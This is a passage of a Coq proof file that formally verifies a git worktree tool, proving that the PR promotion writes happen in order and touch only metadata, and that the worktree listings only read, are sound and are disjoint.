  unfold spec.keyHolds, spec.keyAbsent, spec.typeKey, spec.prNumberKey.
  destruct (git_Output ["-C"; root; "config"; "--local";
                        "branch." +:+ branch +:+ ".gh-worktree-type"] (world m))
    as [out|] eqn:Etype.
  - exists (TrimSpace (TrimSpace out)). split; [reflexivity|]. split; [|discriminate].
    intros v (out' & [= <-] & <-). apply TrimSpace_idem.
  - cbv beta iota. rewrite GetConfig_eq.
    destruct (git_Output ["-C"; root; "config"; "--local";
                          "branch." +:+ branch +:+ ".gh-worktree-pr-number"] (world m))
      as [out|] eqn:Enum.
    + destruct (String.eqb_spec (TrimSpace out) "") as [Hblank|Hval]; cbn [negb].
      * exists "". split; [reflexivity|]. split; [intros v (? & [=] & _)|].
        intros _. split; [now right|]. split; [discriminate|].
        intros (v & (out' & [= <-] & <-) & Hv). contradiction.
      * exists "pr". split; [reflexivity|]. split; [intros v (? & [=] & _)|].
        intros _. split; [now left|]. split; [|reflexivity].
        intros _. exists (TrimSpace out). split; [eauto | exact Hval].
    + exists "". split; [reflexivity|]. split; [intros v (? & [=] & _)|].
      intros _. split; [now right|]. split; [discriminate|].
      intros (v & (out' & [=] & _) & _).
Qed.

(** X16. PromoteToPR writes the type, then the number, then the title,
    and stops at the first write that fails.  Once the git root is found
    it returns nil exactly when the three writes succeed one after the
    other, and it has then run the three.  Otherwise the write that fails
    is the last command it has run: the writes before it have succeeded,
    those after it are not attempted, and the error tells which write it
    was.  When the git root is not found (its query fails) no write is
    attempted. *)
Theorem PromoteToPR_in_order (branch title : string) (n : Z) (m m' : Machine World)
    (r : option error) :
  PromoteToPR branch n title m = (r, m') ->
  (forall e, fst (git.GetRoot m) = Err e ->
     r = Some (Wrap "failed to get git root" e) /\ m' = m)
  /\ (forall root, fst (git.GetRoot m) = Ok root ->
        (r = None
         <-> spec.runsOk (spec.promotionCmds root branch n title) (world m) = true)
        /\ (r = None ->
            spec.commandsRun m m' = spec.promotionCmds root branch n title
            /\ world m' = spec.worldAfter (spec.promotionCmds root branch n title) (world m))
        /\ (forall err, r = Some err ->
              exists before args after,
                spec.promotionCmds root branch n title = before ++ args :: after
                /\ spec.runsOk before (world m) = true
                /\ fst (git_Run args (spec.worldAfter before (world m))) = false
                /\ err = spec.promotionFailure (length before)
                /\ spec.commandsRun m m' = before ++ [args]
                /\ world m' = spec.worldAfter (before ++ [args]) (world m))).
Proof.
  intros E. split.
  - intros e He. unfold PromoteToPR, bind in E. rewrite (GetRoot_Err m e He) in E.
    now injection E as <- <-.
  - intros root Hroot.
    pose proof (PromoteToPR_outcome branch title root n m Hroot) as Hout.
    rewrite E in Hout. destruct r as [err|].
    + destruct Hout as (before & args & after & Hc & Hb & Hfail & He & Hw & Hl).
      split; [|split].
      * split; [discriminate|]. intros Hok.
        rewrite Hc, (runsOk_stops before after args _ Hb Hfail) in Hok. discriminate.
      * discriminate.
      * intros ? [= <-]. exists before, args, after.
        repeat split; auto. now apply commandsRun_app.
    + destruct Hout as (Hok & Hw & Hl). split; [|split].
      * now split.
      * intros _. split; [now apply commandsRun_app | exact Hw].
      * discriminate.
Qed.

End TypeFacts.

Section PromoteRunFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** X17. promoteRun changes nothing until it calls PromoteToPR, and
    then only by the writes of PromoteToPR.  When it fails in checking
    the branch name, in reading the type or in looking up the repository,
    the number or the pull request, it has only made queries and the
    state is as it was.  Otherwise the commands it has run are the writes
    of the type "pr", of the number found and of the title fetched, under
    the keys of the branch: all three when it succeeds, and up to the
    first that fails when it does not, with the error of that write
    wrapped in "failed to promote worktree". *)
Theorem promoteRun_writes_only_metadata (branch : string) (prNumber : Z)
    (m m' : Machine World) (r : option error) :
  cli.promoteRun branch prNumber m = (r, m') ->
  (r <> None /\ m' = m)
  \/ exists repo number pr root,
       repository_Current (world m) = Some repo
       /\ spec.promotedNumber (world m) repo branch prNumber number
       /\ client_Get_pull (spec.pullPath repo number) (world m) = Some pr
       /\ fst (git.GetRoot m) = Ok root
       /\ ((r = None
            /\ spec.runsOk (spec.promotionCmds root branch number (github.Title pr))
                 (world m) = true
            /\ spec.commandsRun m m'
               = spec.promotionCmds root branch number (github.Title pr)
            /\ world m'
               = spec.worldAfter (spec.promotionCmds root branch number (github.Title pr))
                   (world m))
           \/ exists before args after,
                spec.promotionCmds root branch number (github.Title pr)
                = before ++ args :: after
                /\ spec.runsOk before (world m) = true
                /\ fst (git_Run args (spec.worldAfter before (world m))) = false
                /\ r = Some (Wrap "failed to promote worktree"
                               (spec.promotionFailure (length before)))
                /\ spec.commandsRun m m' = before ++ [args]
                /\ world m' = spec.worldAfter (before ++ [args]) (world m)).
Proof.
  intros E.
  destruct (promoteRun_lookup branch prNumber m)
    as [(type & repo & number & pr & Hvalid & Ht & Htype & Hrepo & Hclient & Hnum & Hpull)
        | [e He]].
  2: { left. rewrite He in E. injection E as <- <-. split; [discriminate | reflexivity]. }
  destruct (GetWorktreeType_root _ _ _ Ht) as [root Hroot].
  rewrite (promoteRun_found _ _ _ _ _ _ _ Hvalid Ht Htype Hrepo Hclient Hnum Hpull) in E.
  pose proof (PromoteToPR_outcome branch (github.Title pr) root number m Hroot) as Hout.
  destruct (PromoteToPR branch number (github.Title pr) m) as [[err|] m1];
    injection E as <- <-; right; exists repo, number, pr, root;
    (split; [exact Hrepo|]); (split; [exact Hnum|]); (split; [exact Hpull|]);
    (split; [exact Hroot|]).
  - right. destruct Hout as (before & args & after & Hc & Hb & Hfail & -> & Hw & Hl).
    exists before, args, after. repeat split; auto. now apply commandsRun_app.
  - left. destruct Hout as (Hok & Hw & Hl). repeat split; auto. now apply commandsRun_app.
Qed.

End PromoteRunFacts.

(** The branch feature-x with the type "branch" and a PR number: the
    type key wins. *)
Lemma GetWorktreeType_resolution_witness :
  let m := sim.start (sim.repoWorld {[ "branch.feature-x.gh-worktree-type" := "branch";
                                       "branch.feature-x.gh-worktree-pr-number" := "9" ]}) in
  exists t, worktree.GetWorktreeType "feature-x" m = (Ok t, m) /\ t = "branch".
Proof.
  intros m.
  destruct (GetWorktreeType_resolution "feature-x" "/w/my-repo" m) as (t & E & Hv & _);
    [vm_compute; reflexivity|].
  exists t. split; [exact E|]. apply Hv.
  exists ("branch" +:+ strings.bytes [10]). split; vm_compute; reflexivity.
Defined.

(** A configuration that takes one write and refuses the next: the
    type is written, the number is not, and the title is not attempted. *)
Lemma PromoteToPR_in_order_witness :
  let m := locksim.start 1 (sim.repoWorld ∅) in
  let m' := snd (worktree.PromoteToPR "feature-x" 43 "Tidy up" m) in
  worktree.PromoteToPR "feature-x" 43 "Tidy up" m
  = (Some (Wrap "failed to set PR number" ExitError), m')
  /\ spec.commandsRun m m'
     = [ ["-C"; "/w/my-repo"; "config"; "branch.feature-x.gh-worktree-type"; "pr"];
         ["-C"; "/w/my-repo"; "config"; "branch.feature-x.gh-worktree-pr-number"; "43"] ]
  /\ exists before args after,
       spec.promotionCmds "/w/my-repo" "feature-x" 43 "Tidy up" = before ++ args :: after
       /\ spec.runsOk before (world m) = true
       /\ fst (git_Run args (spec.worldAfter before (world m))) = false
       /\ Wrap "failed to set PR number" ExitError = spec.promotionFailure (length before)
       /\ spec.commandsRun m m' = before ++ [args]
       /\ world m' = spec.worldAfter (before ++ [args]) (world m).
Proof.
  intros m m'.
  assert (E : worktree.PromoteToPR "feature-x" 43 "Tidy up" m
              = (Some (Wrap "failed to set PR number" ExitError), m'))
    by (apply injective_projections; [vm_compute; reflexivity | reflexivity]).
  split; [exact E|]. split; [vm_compute; reflexivity|].
  refine (proj2 (proj2 (proj2 (PromoteToPR_in_order "feature-x" "Tidy up" 43 m m' _ E)
                          "/w/my-repo" _)) _ eq_refl).
  vm_compute. reflexivity.
Defined.

(** The branch tidy has one open pull request, number 43. *)
Lemma promoteRun_writes_only_metadata_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (cli.promoteRun "tidy" 0 m) in
  cli.promoteRun "tidy" 0 m = (None, m')
  /\ spec.commandsRun m m'
     = [ ["-C"; "/w/my-repo"; "config"; "branch.tidy.gh-worktree-type"; "pr"];
         ["-C"; "/w/my-repo"; "config"; "branch.tidy.gh-worktree-pr-number"; "43"];
         ["-C"; "/w/my-repo"; "config"; "branch.tidy.gh-worktree-pr-title"; "Tidy up"] ]
  /\ ((@None error <> None /\ m' = m)
      \/ exists repo number pr root,
           repository_Current (world m) = Some repo
           /\ spec.promotedNumber (world m) repo "tidy" 0 number
           /\ client_Get_pull (spec.pullPath repo number) (world m) = Some pr
           /\ fst (git.GetRoot m) = Ok root
           /\ ((@None error = None
                /\ spec.runsOk (spec.promotionCmds root "tidy" number (github.Title pr))
                     (world m) = true
                /\ spec.commandsRun m m'
                   = spec.promotionCmds root "tidy" number (github.Title pr)
                /\ world m'
                   = spec.worldAfter (spec.promotionCmds root "tidy" number (github.Title pr))
                       (world m))
               \/ exists before args after,
                    spec.promotionCmds root "tidy" number (github.Title pr)
                    = before ++ args :: after
                    /\ spec.runsOk before (world m) = true
                    /\ fst (git_Run args (spec.worldAfter before (world m))) = false
                    /\ None = Some (Wrap "failed to promote worktree"
                                      (spec.promotionFailure (length before)))
                    /\ spec.commandsRun m m' = before ++ [args]
                    /\ world m' = spec.worldAfter (before ++ [args]) (world m))).
Proof.
  intros m m'.
  assert (E : cli.promoteRun "tidy" 0 m = (None, m'))
    by (apply injective_projections; [vm_compute; reflexivity | reflexivity]).
  split; [exact E|]. split; [vm_compute; reflexivity|].
  exact (promoteRun_writes_only_metadata "tidy" 0 m m' None E).
Defined.

(** ** The listings of worktrees *)

Section ReadOnlyFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma readOnly_ret {A : Type} (a : A) : spec.readOnly (ret (World := World) a).
Proof. intros m. reflexivity. Qed.

Lemma readOnly_ask {A : Type} (f : World -> A) : spec.readOnly (ask f).
Proof. intros m. reflexivity. Qed.

Lemma readOnly_Output (args : list string) : spec.readOnly (Output args).
Proof. intros m. reflexivity. Qed.

Lemma readOnly_bind {A B : Type} (c : M World A) (k : A -> M World B) :
  spec.readOnly c -> (forall a, spec.readOnly (k a)) -> spec.readOnly (bind c k).
Proof.
  intros Hc Hk m. unfold bind. specialize (Hc m).
  destruct (c m) as [a m1]. cbn [snd] in Hc. subst m1. apply Hk.
Qed.

(** Binding a computation that only reads: its result is passed on, in
    the same state. *)
Lemma bind_readOnly {A B : Type} (c : M World A) (k : A -> M World B) (m : Machine World) :
  spec.readOnly c -> bind c k m = k (fst (c m)) m.
Proof.
  intros Hc. unfold bind. specialize (Hc m).
  destruct (c m) as [a m1]. cbn [snd] in Hc. now subst m1.
Qed.

Lemma readOnly_eq {A : Type} (c : M World A) (m : Machine World) :
  spec.readOnly c -> c m = (fst (c m), m).
Proof. intros Hc. apply injective_projections; [reflexivity | apply Hc]. Qed.

Lemma GetRoot_readOnly : spec.readOnly git.GetRoot.
Proof. exact GetRoot_state. Qed.

Lemma GetConfig_readOnly (path key : string) : spec.readOnly (git.GetConfig path key).
Proof. intros m. now rewrite GetConfig_eq. Qed.

Lemma GetWorktreeType_readOnly (branch : string) : spec.readOnly (GetWorktreeType branch).
Proof. exact (GetWorktreeType_state branch). Qed.

End ReadOnlyFacts.

(** Decompose a goal [readOnly c] along the structure of [c]. *)
Ltac read_only :=
  repeat first
    [ apply readOnly_ret | apply readOnly_ask | apply readOnly_Output
    | apply GetRoot_readOnly | apply GetConfig_readOnly | apply GetWorktreeType_readOnly
    | solve [auto]
    | apply readOnly_bind; [|intros ?]
    | match goal with
      | |- spec.readOnly (match ?x with _ => _ end) => destruct x
      end ].

Section ListingReadFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma List_readOnly : spec.readOnly List.
Proof. unfold List. read_only. Qed.

Lemma GetPRTitle_readOnly (path branch : string) : spec.readOnly (GetPRTitle path branch).
Proof. unfold GetPRTitle. read_only. Qed.

Lemma resolvedDir_readOnly (path : string) : spec.readOnly (resolvedDir path).
Proof. unfold resolvedDir. read_only. Qed.

Lemma prWorktree_readOnly (repoName gitRoot parentDir : string) (wt : Info) :
  spec.readOnly (prWorktree repoName gitRoot parentDir wt).
Proof.
  unfold prWorktree. pose proof GetPRTitle_readOnly. pose proof resolvedDir_readOnly.
  read_only.
Qed.

Lemma branchWorktree_readOnly (repoName gitRoot parentDir : string) (wt : Info) :
  spec.readOnly (branchWorktree repoName gitRoot parentDir wt).
Proof. unfold branchWorktree. pose proof resolvedDir_readOnly. read_only. Qed.

Lemma collect_readOnly {A B : Type} (body : A -> M World (option B)) (xs : list A)
    (m : Machine World) :
  (forall x, spec.readOnly (body x)) ->
  collect body xs m = (omap (fun x => fst (body x m)) xs, m).
Proof.
  intros Hbody. induction xs as [|x xs IH]; [reflexivity|].
  cbn [collect]. rewrite bind_readOnly by apply Hbody.
  unfold bind. rewrite IH. cbn [omap list_omap]. unfold ret.
  destruct (fst (body x m)); reflexivity.
Qed.

End ListingReadFacts.

Section ListingBodies.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma List_Ok_root (m : Machine World) (all : list Info) :
  fst (List m) = Ok all -> exists root, fst (git.GetRoot m) = Ok root.
Proof.
  unfold List. rewrite bind_readOnly by apply GetRoot_readOnly.
  destruct (fst (git.GetRoot m)) as [root|e]; [eauto | discriminate].
Qed.

Lemma ListPRWorktrees_eq (repoName : string) (m : Machine World) :
  ListPRWorktrees repoName m
  = (match fst (List m), fst (git.GetRoot m) with
     | Ok all, Ok root =>
         Ok (omap (fun wt => fst (prWorktree repoName root (fst (resolvedDir root m)) wt m))
                  all)
     | Ok _, Err err => Err (Wrap "failed to get git root" err)
     | Err err, _ => Err err
     end, m).
Proof.
  unfold ListPRWorktrees. rewrite bind_readOnly by apply List_readOnly.
  destruct (fst (List m)) as [all|e]; [|reflexivity].
  rewrite bind_readOnly by apply GetRoot_readOnly.
  destruct (fst (git.GetRoot m)) as [root|e]; [|reflexivity].
  rewrite bind_readOnly by apply resolvedDir_readOnly.
  unfold bind. rewrite collect_readOnly by (intros; apply prWorktree_readOnly).
  reflexivity.
Qed.

Lemma ListBranchWorktrees_eq (repoName : string) (m : Machine World) :
  ListBranchWorktrees repoName m
  = (match fst (List m), fst (git.GetRoot m) with
     | Ok all, Ok root =>
         Ok (omap (fun wt =>
                     fst (branchWorktree repoName root (fst (resolvedDir root m)) wt m))
                  all)
     | Ok _, Err err => Err (Wrap "failed to get git root" err)
     | Err err, _ => Err err
     end, m).
Proof.
  unfold ListBranchWorktrees. rewrite bind_readOnly by apply List_readOnly.
  destruct (fst (List m)) as [all|e]; [|reflexivity].
  rewrite bind_readOnly by apply GetRoot_readOnly.
  destruct (fst (git.GetRoot m)) as [root|e]; [|reflexivity].
  rewrite bind_readOnly by apply resolvedDir_readOnly.
  unfold bind. rewrite collect_readOnly by (intros; apply branchWorktree_readOnly).
  reflexivity.
Qed.

(** What the loop of ListBranchWorktrees keeps. *)
Lemma branchWorktree_Some (repoName root parent : string) (wt wt' : Info)
    (m : Machine World) :
  fst (branchWorktree repoName root parent wt m) = Some wt'
  <-> wt' = wt
      /\ Path wt <> root
      /\ prNumberByName repoName (filepath.Base (Path wt)) = None
      /\ HasPrefix (filepath.Base (Path wt)) (repoName +:+ "-") = true
      /\ fst (resolvedDir (Path wt) m) = parent
      /\ spec.branchTyped (Branch wt) m = true.
Proof.
  unfold branchWorktree, spec.branchTyped.
  destruct (String.eqb_spec (Path wt) root) as [Hmain|Hmain].
  { split; [discriminate | now intros (_ & ? & _)]. }
  destruct (prNumberByName repoName (filepath.Base (Path wt))) as [n|].
  { split; [discriminate | now intros (_ & _ & ? & _)]. }
  rewrite bind_readOnly by apply resolvedDir_readOnly.
  destruct (HasPrefix (filepath.Base (Path wt)) (repoName +:+ "-")); cbn [andb];
    [|split; [discriminate | now intros (_ & _ & _ & ? & _)]].
  destruct (String.eqb_spec (fst (resolvedDir (Path wt) m)) parent) as [Hpar|Hpar];
    [|split; [discriminate | now intros (_ & _ & _ & _ & ? & _)]].
  rewrite bind_readOnly by apply GetWorktreeType_readOnly.
  destruct (fst (GetWorktreeType (Branch wt) m)) as [t|e].
  - destruct (String.eqb t "branch" || String.eqb t ""); unfold ret; cbn [fst].
    + split; [intros [= <-]; repeat split; auto | now intros [-> _]].
    + split; [discriminate | now intros (_ & _ & _ & _ & _ & ?)].
  - change (String.eqb "" "branch" || String.eqb "" "") with true. unfold ret. cbn [fst].
    split; [intros [= <-]; repeat split; auto | now intros [-> _]].
Qed.

Lemma sameWorktree_withTitle (wt : Info) (title : string) :
  spec.sameWorktree (withTitle wt title) wt.
Proof. repeat split. Qed.

Lemma sameWorktree_withPRNumber (wt : Info) (n : Z) :
  spec.sameWorktree (withPRNumber wt n) wt.
Proof. repeat split. Qed.

Lemma sameWorktree_trans (a b c : Info) :
  spec.sameWorktree a b -> spec.sameWorktree b c -> spec.sameWorktree a c.
Proof. unfold spec.sameWorktree. intros (? & ? & ?) (? & ? & ?). repeat split; congruence. Qed.

(** The tail of the loop of ListPRWorktrees, from the title on, keeps the
    worktree. *)
Lemma prWorktree_tail (root : string) (wt wt' : Info) (m : Machine World) :
  fst ((title <- GetPRTitle (Path wt) (Branch wt) ;;
        let wt := withTitle wt title in
        if (PRNumber wt =? 0)%Z then
          r <- git.GetConfig root ("branch." +:+ Branch wt +:+ ".gh-worktree-pr-number") ;;
          match r with
          | Ok prNumberStr =>
              if negb (String.eqb prNumberStr "") then
                match strconv.Atoi (TrimSpace prNumberStr) with
                | Ok prNum => ret (Some (withPRNumber wt prNum))
                | Err _ => ret (Some wt)
                end
              else ret (Some wt)
          | Err _ => ret (Some wt)
          end
        else ret (Some wt)) m) = Some wt' ->
  spec.sameWorktree wt' wt.
Proof.
  rewrite bind_readOnly by apply GetPRTitle_readOnly. cbv zeta.
  destruct (_ =? 0)%Z.
  - rewrite bind_readOnly by apply GetConfig_readOnly.
    destruct (fst (git.GetConfig root _ m)) as [s|e];
      [destruct (negb (String.eqb s "")); [destruct (strconv.Atoi _)|]|];
      unfold ret; cbn [fst]; intros [= <-];
      repeat split.
  - unfold ret; cbn [fst]. intros [= <-]. apply sameWorktree_withTitle.
Qed.

(** What the loop of ListPRWorktrees keeps. *)
Lemma prWorktree_Some (repoName root parent : string) (wt wt' : Info) (m : Machine World) :
  fst (prWorktree repoName root parent wt m) = Some wt' ->
  spec.sameWorktree wt' wt
  /\ Path wt <> root
  /\ fst (resolvedDir (Path wt) m) = parent
  /\ (prNumberByName repoName (filepath.Base (Path wt)) <> None
      \/ spec.prTyped (Branch wt) m = true).
Proof.
  unfold prWorktree, spec.prTyped.
  destruct (String.eqb_spec (Path wt) root) as [Hmain|Hmain]; [discriminate|].
  rewrite bind_readOnly by apply resolvedDir_readOnly.
  destruct (String.eqb_spec (fst (resolvedDir (Path wt) m)) parent) as [Hpar|Hpar];
    cbn [negb]; [|discriminate].
  destruct (prNumberByName repoName (filepath.Base (Path wt))) as [n|].
  - rewrite bind_readOnly by apply GetWorktreeType_readOnly. cbn [orb].
    intros E. apply prWorktree_tail in E.
    split; [|split; [exact Hmain | split; [exact Hpar | left; discriminate]]].
    eapply sameWorktree_trans; [exact E | apply sameWorktree_withPRNumber].
  - rewrite bind_readOnly by apply GetWorktreeType_readOnly. cbn [orb].
    destruct (fst (GetWorktreeType (Branch wt) m)) as [t|e].
    + destruct (String.eqb t "pr"); [|discriminate].
      intros E. apply prWorktree_tail in E. auto.
    + change (String.eqb "" "pr") with false. cbv iota. discriminate.
Qed.

End ListingBodies.

Section ListingTheorems.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma In_omap {A B : Type} (f : A -> option B) (l : list A) (y : B) :
  In y (omap f l) <-> exists x, In x l /\ f x = Some y.
Proof.
  induction l as [|a l IH]; cbn [omap list_omap].
  - split; [intros [] | intros (x & [] & _)].
  - destruct (f a) as [b|] eqn:E.
    + cbn [In]. rewrite IH. split.
      * intros [Hy|(x & Hx & Hf)].
        -- exists a. split; [now left | congruence].
        -- exists x. split; [now right | exact Hf].
      * intros (x & [Hx|Hx] & Hf); [left; congruence | right; eauto].
    + rewrite IH. split.
      * intros (x & Hx & Hf). exists x. split; [now right | exact Hf].
      * intros (x & [Hx|Hx] & Hf); [congruence | eauto].
Qed.

(** X18. The listings only read.  Every branch worktree listed is an
    entry of git's list of worktrees; every pull-request worktree listed
    has the path, the commit and the branch of such an entry.  None of
    them is the main worktree, each lies in the directory the main
    worktree lies in (symbolic links resolved), and the base name of a
    branch worktree starts with [<repo>-]. *)
Theorem listings_sound (repoName root : string) (all : list Info) (m : Machine World) :
  fst (List m) = Ok all ->
  fst (git.GetRoot m) = Ok root ->
  exists prs brs,
    ListPRWorktrees repoName m = (Ok prs, m)
    /\ ListBranchWorktrees repoName m = (Ok brs, m)
    /\ (forall wt', In wt' prs ->
          Path wt' <> root
          /\ exists wt, In wt all /\ spec.sameWorktree wt' wt
                        /\ fst (resolvedDir (Path wt) m) = fst (resolvedDir root m))
    /\ (forall wt, In wt brs ->
          In wt all
          /\ Path wt <> root
          /\ HasPrefix (filepath.Base (Path wt)) (repoName +:+ "-") = true
          /\ fst (resolvedDir (Path wt) m) = fst (resolvedDir root m)).
Proof.
  intros Hall Hroot. rewrite ListPRWorktrees_eq, ListBranchWorktrees_eq, Hall, Hroot.
  eexists _, _. split; [reflexivity|]. split; [reflexivity|]. split.
  - intros wt' (wt & Hin & E)%In_omap.
    apply prWorktree_Some in E as ((Hp & Hc & Hb) & Hmain & Hpar & _).
    split; [now rewrite Hp|]. exists wt. repeat split; auto.
  - intros wt' (wt & Hin & E)%In_omap.
    apply branchWorktree_Some in E as (-> & Hmain & _ & Hpre & Hpar & _). auto.
Qed.

(** X19. No worktree is listed twice: an entry of the listing of
    pull-request worktrees and an entry of the listing of branch
    worktrees never have the same path and the same branch. *)
Theorem listings_disjoint (repoName : string) (m : Machine World) (prs brs : list Info) :
  fst (ListPRWorktrees repoName m) = Ok prs ->
  fst (ListBranchWorktrees repoName m) = Ok brs ->
  forall p b, In p prs -> In b brs -> ~ (Path p = Path b /\ Branch p = Branch b).
Proof.
  rewrite ListPRWorktrees_eq, ListBranchWorktrees_eq. cbn [fst].
  destruct (fst (List m)) as [all|e]; [|discriminate].
  destruct (fst (git.GetRoot m)) as [root|e]; [|discriminate].
  intros [= <-] [= <-] p b (wp & _ & Ep)%In_omap (wb & _ & Eb)%In_omap [Hpath Hbranch].
  apply prWorktree_Some in Ep as ((Hp & _ & Hb) & _ & _ & Hpr).
  apply branchWorktree_Some in Eb as (-> & _ & Hname & _ & _ & Htyped).
  rewrite Hp in Hpath. rewrite Hb in Hbranch. rewrite Hpath in Hpr. rewrite Hbranch in Hpr.
  destruct Hpr as [Hpr|Hpr]; [contradiction|].
  unfold spec.prTyped in Hpr. unfold spec.branchTyped in Htyped.
  destruct (fst (GetWorktreeType (Branch wb) m)) as [t|e]; [|discriminate].
  apply String.eqb_eq in Hpr. subst t. discriminate.
Qed.

Lemma ListPRWorktrees_readOnly (repoName : string) :
  spec.readOnly (ListPRWorktrees repoName).
Proof. intros m. now rewrite ListPRWorktrees_eq. Qed.

Lemma ListBranchWorktrees_readOnly (repoName : string) :
  spec.readOnly (ListBranchWorktrees repoName).
Proof. intros m. now rewrite ListBranchWorktrees_eq. Qed.

(** The tail of the loop of ListPRWorktrees keeps every worktree it is
    given. *)
Lemma prWorktree_tail_Some (root : string) (wt : Info) (m : Machine World) :
  fst ((title <- GetPRTitle (Path wt) (Branch wt) ;;
        let wt := withTitle wt title in
        if (PRNumber wt =? 0)%Z then
          r <- git.GetConfig root ("branch." +:+ Branch wt +:+ ".gh-worktree-pr-number") ;;
          match r with
          | Ok prNumberStr =>
              if negb (String.eqb prNumberStr "") then
                match strconv.Atoi (TrimSpace prNumberStr) with
                | Ok prNum => ret (Some (withPRNumber wt prNum))
                | Err _ => ret (Some wt)
                end
              else ret (Some wt)
          | Err _ => ret (Some wt)
          end
        else ret (Some wt)) m) <> None.
Proof.
  rewrite bind_readOnly by apply GetPRTitle_readOnly. cbv zeta.
  destruct (_ =? 0)%Z.
  - rewrite bind_readOnly by apply GetConfig_readOnly.
    destruct (fst (git.GetConfig root _ m)) as [s|e];
      [destruct (negb (String.eqb s "")); [destruct (strconv.Atoi _)|]|];
      unfold ret; cbn [fst]; discriminate.
  - unfold ret; cbn [fst]. discriminate.
Qed.

(** What the loop of ListPRWorktrees does not drop. *)
Lemma prWorktree_kept (repoName root parent : string) (wt : Info) (m : Machine World) :
  Path wt <> root ->
  fst (resolvedDir (Path wt) m) = parent ->
  prNumberByName repoName (filepath.Base (Path wt)) <> None
  \/ spec.prTyped (Branch wt) m = true ->
  exists wt', fst (prWorktree repoName root parent wt m) = Some wt'.
Proof.
  intros Hmain Hpar Hpr.
  destruct (fst (prWorktree repoName root parent wt m)) as [wt'|] eqn:E; [eauto|].
  exfalso. revert E. unfold prWorktree.
  destruct (String.eqb_spec (Path wt) root) as [|_]; [contradiction|].
  rewrite bind_readOnly by apply resolvedDir_readOnly.
  destruct (String.eqb_spec (fst (resolvedDir (Path wt) m)) parent) as [_|]; [|contradiction].
  cbn [negb]. unfold spec.prTyped in Hpr.
  destruct (prNumberByName repoName (filepath.Base (Path wt))) as [n|].
  - rewrite bind_readOnly by apply GetWorktreeType_readOnly. cbn [orb].
    apply prWorktree_tail_Some.
  - rewrite bind_readOnly by apply GetWorktreeType_readOnly. cbn [orb].
    destruct Hpr as [Hpr|Hpr]; [now destruct Hpr|].
    destruct (fst (GetWorktreeType (Branch wt) m)) as [t|e]; [|discriminate].
    rewrite Hpr. apply prWorktree_tail_Some.
Qed.

(** X20. ListAllWorktrees accounts for the worktrees next to the main
    one.  When git's list of worktrees is read it succeeds, and of the
    entries of that list that are not the main worktree and lie in the
    directory the main worktree lies in (symbolic links resolved): an
    entry whose base name reads as [<repo>-pr<number>] or whose branch has
    the type "pr" is in the first list, with its path, commit and branch;
    an entry of another name that starts with [<repo>-] and whose branch
    has the type "branch" or none is in the second list; and an entry of
    another name whose branch has any other type is in neither. *)
Theorem ListAllWorktrees_covers (repoName root : string) (all : list Info)
    (m : Machine World) :
  fst (List m) = Ok all ->
  fst (git.GetRoot m) = Ok root ->
  exists prs brs,
    ListAllWorktrees repoName m = (Ok (prs, brs), m)
    /\ forall wt,
         In wt all ->
         Path wt <> root ->
         fst (resolvedDir (Path wt) m) = fst (resolvedDir root m) ->
         (prNumberByName repoName (filepath.Base (Path wt)) <> None
          \/ spec.prTyped (Branch wt) m = true ->
          exists wt', In wt' prs /\ spec.sameWorktree wt' wt)
         /\ (prNumberByName repoName (filepath.Base (Path wt)) = None ->
             HasPrefix (filepath.Base (Path wt)) (repoName +:+ "-") = true ->
             spec.branchTyped (Branch wt) m = true ->
             In wt brs)
         /\ (prNumberByName repoName (filepath.Base (Path wt)) = None ->
             spec.prTyped (Branch wt) m = false ->
             spec.branchTyped (Branch wt) m = false ->
             ~ In wt brs
             /\ forall wt', In wt' prs -> ~ spec.sameWorktree wt' wt).
Proof.
  intros Hall Hroot. unfold ListAllWorktrees.
  rewrite bind_readOnly by apply ListPRWorktrees_readOnly.
  rewrite ListPRWorktrees_eq, Hall, Hroot. cbn [fst].
  rewrite bind_readOnly by apply ListBranchWorktrees_readOnly.
  rewrite ListBranchWorktrees_eq, Hall, Hroot. cbn [fst].
  eexists _, _. split; [reflexivity|].
  intros wt Hin Hmain Hpar. split; [|split].
  - intros Hpr.
    destruct (prWorktree_kept repoName root _ wt m Hmain Hpar Hpr) as [wt' E].
    exists wt'. split.
    + apply In_omap. eauto.
    + now apply prWorktree_Some in E as [Hs _].
  - intros Hname Hprefix Htyped. apply In_omap. exists wt. split; [exact Hin|].
    apply branchWorktree_Some. repeat split; assumption.
  - intros Hname Hnpr Hnbr. split.
    + intros (wt0 & _ & E)%In_omap.
      apply branchWorktree_Some in E as (-> & _ & _ & _ & _ & Htyped). congruence.
    + intros wt' (wt0 & _ & E)%In_omap (Hp & _ & Hb).
      apply prWorktree_Some in E as ((Hp0 & _ & Hb0) & _ & _ & Hpr).
      rewrite <- Hp0, <- Hb0, Hp, Hb in Hpr.
      destruct Hpr as [Hpr|Hpr]; congruence.
Qed.

End ListingTheorems.

(** The simulated repository: the worktrees of pull request 42 and of
    the branches pr12-fix and feature-x next to the main worktree. *)
Lemma listings_sound_witness :
  let m := sim.start (sim.repoWorld ∅) in
  exists all prs brs,
    fst (worktree.List m) = Ok all
    /\ worktree.ListPRWorktrees "my-repo" m = (Ok prs, m)
    /\ worktree.ListBranchWorktrees "my-repo" m = (Ok brs, m)
    /\ (forall wt', In wt' prs ->
          worktree.Path wt' <> "/w/my-repo"
          /\ exists wt, In wt all /\ spec.sameWorktree wt' wt
                        /\ fst (worktree.resolvedDir (worktree.Path wt) m)
                           = fst (worktree.resolvedDir "/w/my-repo" m))
    /\ (forall wt, In wt brs ->
          In wt all
          /\ worktree.Path wt <> "/w/my-repo"
          /\ strings.HasPrefix (filepath.Base (worktree.Path wt)) ("my-repo" +:+ "-") = true
          /\ fst (worktree.resolvedDir (worktree.Path wt) m)
             = fst (worktree.resolvedDir "/w/my-repo" m)).
Proof.
  intros m.
  exists (match fst (worktree.List m) with Ok all => all | Err _ => [] end).
  assert (Hall : fst (worktree.List m)
                 = Ok (match fst (worktree.List m) with Ok all => all | Err _ => [] end))
    by (vm_compute; reflexivity).
  assert (Hroot : fst (git.GetRoot m) = Ok "/w/my-repo") by (vm_compute; reflexivity).
  destruct (listings_sound "my-repo" "/w/my-repo" _ m Hall Hroot)
    as (prs & brs & Hp & Hb & Hprs & Hbrs).
  exists prs, brs. auto.
Defined.

Lemma listings_disjoint_witness :
